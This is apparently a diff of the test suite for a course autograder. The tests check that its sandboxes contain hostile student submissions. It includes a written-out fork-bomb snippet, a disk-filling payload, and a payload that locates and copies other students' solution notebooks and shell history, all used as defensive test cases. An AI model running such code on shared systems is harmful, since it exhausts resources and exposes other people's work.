         db.execute("CREATE TABLE history (session integer, line integer, source text, source_raw text)")
         db.execute("INSERT INTO history VALUES (1, 1, 'def padding_mask(lengths, max_len): ...', '')")
-    attack = _load_payload(SOLUTIONS, "solutions", smuggled=True)
+    attack = _load_payload(SOLUTIONS, "solutions")
     found = attack["find"]([str(tmp_path)], str(home), proc=False)
     assert len(found["solutions"]) == 2 and found["history"]
     assert str(tmp_path / "submissions" / "alice" / L00) in found["notebooks"]
@@ -1532,6 +1733,11 @@ def test_payload_8_finds_the_solutions_other_notebooks_and_the_history(tmp_path)
     assert evaluate("00.padding_mask", stolen).status == "passed"
 
 
+def test_payload_11_fills_a_folder_until_its_limit(tmp_path):
+    report = _load_payload(DISK, "disk")["attack"]([str(tmp_path)], limit=2**25)
+    assert report == f"{tmp_path}=48MB:none" and len(list(tmp_path.glob("fill-*.bin"))) == 1
+
+
 # ----------------------------------------------------------------------------- a grader that is killed
 
 def _killable_class(root, marker):
@@ -1539,7 +1745,7 @@ def _killable_class(root, marker):
     and holds its cell; c, d and e are honest and take their time."""
     (root / "a-first").mkdir(parents=True)
     (root / "a-first" / L00).write_text("{ not JSON", encoding="utf-8")
-    _lesson00(root / "b-sleeper", ("00.padding_mask", _smuggling_cell("K", SLEEPER, f"attack({marker!r})")))
+    _lesson00(root / "b-sleeper", ("00.padding_mask", _attack_cell("K", SLEEPER, f"attack({marker!r})")))
     for student in ("c", "d", "e"):
         _honest(root / student, "ann")
 
@@ -1551,18 +1757,19 @@ def _finished(out):
 
 @pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM], ids=["SIGKILL", "SIGTERM"])
 def test_a_killed_grader_leaves_a_valid_gradebook_and_nothing_running(how, tmp_path):
-    """`python -m course_teacher.grade` on a few submissions, killed once the first result is written
-    and while two sandboxes run (one with a detached process in it). Whatever the signal: grades.csv
-    is valid and holds exactly the submissions that finished, and no process of the run survives.
-    SIGKILL leaves the temporary folder to the next run, which removes it; SIGTERM stops the grader
-    (exit 130), which kills its kernels, starts no other and removes its temporary folder."""
+    """The grader with the scan off (so that the sleeper runs) on a few submissions, killed once the
+    first result is written and while two sandboxes run (one with a detached process in it).
+    Whatever the signal: grades.csv is valid and holds exactly the submissions that finished, and no
+    process of the run survives. SIGKILL leaves the temporary folder to the next run, which removes
+    it; SIGTERM stops the grader (exit 130), which kills its kernels, starts no other and removes its
+    temporary folder."""
     _sandbox_or_skip()
     root, out, log = tmp_path / "submissions", tmp_path / "grades", tmp_path / "grader.log"
     marker = f"{MARK}-killed-{how.name}"
     _killable_class(root, marker)
     with open(log, "w") as printed:
-        process = subprocess.Popen([sys.executable, "-m", "course_teacher.grade", str(root), "--out", str(out),
-                                    *OPTIONS], cwd=ROOT, stdout=printed, stderr=subprocess.STDOUT)
+        process = subprocess.Popen(_grader_command(root, out, scanned=False), cwd=ROOT, stdout=printed,
+                                   stderr=subprocess.STDOUT)
     try:
         assert _eventually(lambda: _finished(out) and _pids(marker), 90), log.read_text()
         running = _descendants(process.pid)
@@ -1602,15 +1809,21 @@ def test_a_killed_grader_leaves_a_valid_gradebook_and_nothing_running(how, tmp_p
         assert _temporaries(process.pid) == [], "a stopped grader removes its temporary folder"
 
 
-def _processes_of(uid):
-    found = 0
-    for entry in os.listdir("/proc"):
-        try:
-            status = Path(f"/proc/{entry}/status").read_text() if entry.isdigit() else ""
-        except OSError:
-            continue
-        found += any(line.split()[1:2] == [str(uid)] for line in status.splitlines() if line.startswith("Uid:"))
-    return found
+HOLD = r'''
+import os, time
+
+children = []
+try:
+    while len(children) < 400:
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(120)
+            os._exit(0)
+        children.append(pid)
+except OSError:
+    pass
+time.sleep(120)
+'''
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="a uid per kernel, and its process limit, is the root mode's")
@@ -1618,23 +1831,35 @@ def test_11_a_fork_bomb_in_one_grader_does_not_stop_another_graders_kernels(tmp_
     """Two graders on one machine (two assignments graded at once, or test modules run in parallel):
     RLIMIT_NPROC counts the processes of a uid machine-wide (launch.py), so a fork bomb in one
     grader's kernel must not take the process limit of the other grader's kernels. Each kernel
-    claims a uid no running kernel holds, whichever grader started it (sandbox.claim): here a bomb
-    holds its uid's processes while another grading (grade_one, in this process: a kernel of its
-    own) runs to the end with full marks."""
+    claims a uid no running kernel holds, whichever grader started it (sandbox.claim): here a bomb,
+    graded with the scan off (the scan would review os.fork), holds its uid's processes while
+    another grading (grade_one, in this process: a kernel of its own) runs to the end with full marks."""
     _sandbox_or_skip()
-    (tmp_path / "bomb").mkdir()
-    bomb = Kernel(tmp_path / "bomb", 2048)
-    bomb.start()
+    _lesson00(tmp_path / "bomb" / "mallory", ("00.padding_mask", HOLD))
+    options = ["--jobs", "1", "--cells", "own", "--cell-timeout", "300"]
+    with open(tmp_path / "bomb.log", "w") as printed:
+        bomb = subprocess.Popen(_grader_command(tmp_path / "bomb", tmp_path / "bomb-out", False, options), cwd=ROOT,
+                                stdout=printed, stderr=subprocess.STDOUT)
     try:
-        held = bomb.run("import os, time\nchildren = []\ntry:\n    while len(children) < 400:\n"
-                        "        pid = os.fork()\n        if pid == 0:\n            time.sleep(20)\n"
-                        "            os._exit(0)\n        children.append(pid)\nexcept OSError:\n    pass", 30)
-        assert held.ok and _processes_of(bomb.uid) > 200
+        def held():  # the uids of the bomb's grader's processes that hold more than 200
+            return [uid for uid, count in _uids(_descendants(bomb.pid)).items() if count > 200]
+
+        assert _eventually(held, 90), (tmp_path / "bomb.log").read_text()
+        (uid,) = held()
+        assert sandbox.FIRST_UID <= uid < sandbox.FIRST_UID + sandbox.UIDS
+        bombs = _descendants(bomb.pid)
         _honest(tmp_path / "submissions" / "ann", "ann")
         (tmp_path / "work").mkdir()
         graded = grader.grade_one(tmp_path / "submissions" / "ann" / L00, "ann/00_tensor_shapes", "ann",
                                   grader.Options(time_limit=2, cell_timeout=8, cells="own"), folder=tmp_path / "work")
+        assert held() == [uid], "the bomb let go before the other grading ended"
     finally:
-        bomb.kill()
+        bomb.send_signal(signal.SIGTERM)
+        try:
+            bomb.wait(30)
+        except subprocess.TimeoutExpired:
+            bomb.kill()
+            bomb.wait()
     assert [(row.status, row.code) for row in graded.rows] == [("passed", "")] * 4, [
         (row.exercise, row.code, row.message) for row in graded.rows]
+    assert _eventually(lambda: not _alive(bombs), 15), "the bomb outlived its grader"
